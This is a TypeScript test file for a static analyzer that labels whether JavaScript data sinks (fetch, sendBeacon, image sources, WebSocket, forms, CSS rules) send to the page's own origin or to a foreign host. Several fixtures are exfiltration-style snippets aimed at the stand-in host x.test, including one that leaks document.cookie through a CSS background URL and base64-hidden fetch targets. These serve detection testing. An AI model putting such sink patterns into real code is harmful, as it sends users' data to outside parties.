import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readCode } from '../fixtures/read-code.ts';
import { findFieldGuards } from './field-guards.ts';
import { findFlows } from './flow-finder.ts';
import { FlowTargets } from './flow-target.ts';

/** The targets of the sinks of a script, requested in reverse order. */
function targetsIn(code: string): string[] {
  const reading = readCode(code);
  const targets = new FlowTargets(reading);
  const flows = findFlows(reading, findFieldGuards(reading));
  return [...new Set(flows.map(({ sink, node }) => targets.of(sink, node) ?? 'nowhere'))];
}

describe('targets of flows', () => {
  const cases: Readonly<Record<string, readonly string[]>> = {
    [`fetch('/a');`]: ['own'],
    [`fetch('a/b');`]: ['own'],
    [`fetch('?a');`]: ['own'],
    [`fetch(location.origin + '/a');`]: ['own'],
    [`fetch('https://' + host);`]: ['own'],
    [`fetch('https://x.test/a');`]: ['foreign'],
    [`fetch('//x.test');`]: ['foreign'],
    [`fetch('HTTPS://x.test');`]: ['foreign'],
    [`fetch(url);`]: ['unknown'],
    [`fetch(atob(code));`]: ['hidden'],
    [`fetch(atob('Ly94LnRlc3Q='));`]: ['foreign'],
    [`navigator.sendBeacon('//x.test', a);`]: ['foreign'],
    [`fetch.call(window, '//x.test');`]: ['foreign'],
    [`new Image().src = '//x.test/' + a;`]: ['foreign'],
    [`$('<img>').attr('src', '//x.test');`]: ['foreign'],
    [`Object.assign(new Image(), { src: '//x.test' });`]: ['foreign'],
    [`$.ajax({ url: '//x.test', data: a });`]: ['foreign'],
    [`$.ajax({ 'url': '/own', data: a });`]: ['own'],
    [`import('//x.test');`]: ['foreign'],
    [`var r = new XMLHttpRequest(); r.open('POST', '//x.test'); r.send(a);`]: ['foreign'],
    [`var r = new XMLHttpRequest(); r.open('POST', '/own'); r.send(a);`]: ['own'],
    [`var s = new WebSocket('wss://x.test'); s.send(a);`]: ['foreign'],
    [`var f = document.createElement('form'); f.action = '//x.test'; f.submit();`]: ['foreign'],
    [`var w = open('//x.test'); w.postMessage(a);`]: ['foreign'],
    [`new RTCPeerConnection().createDataChannel('a').send(b);`]: ['foreign'],
    [`sheet.insertRule('a{background:url(//x.test/' + document.cookie + ')}');`]: ['foreign'],
    [`a.innerHTML = '<img src="//x.test/?' + a + '">';`]: ['foreign'],
    [`a.innerHTML = '<img src="/own?' + a + '">';`]: ['nowhere'],
    [`a.innerHTML = '<b>' + a + '</b>';`]: ['nowhere'],
  };
  for (const [code, targets] of Object.entries(cases)) {
    it(`are ${targets.join()}: ${code}`, () => assert.deepEqual(targetsIn(code), targets));
  }

  it('are those of the nearest URL that was opened before', () => {
    const code = `var a = new XMLHttpRequest(), b = new XMLHttpRequest(); a.open('GET', '//x.test'); a.send(1); b.open('GET', '/own'); b.send(2);`;
    const reading = readCode(code);
    const targets = new FlowTargets(reading);
    const sends = reading.tree.ofType('CallExpression').filter((number) => {
      const call = reading.tree.node(number);
      return call?.type === 'CallExpression' && reading.values.path(call.callee) === '<xhr>.send';
    });
    assert.deepEqual(
      sends.map((node) => targets.of('request', node)),
      ['foreign', 'own'],
    );
  });
});
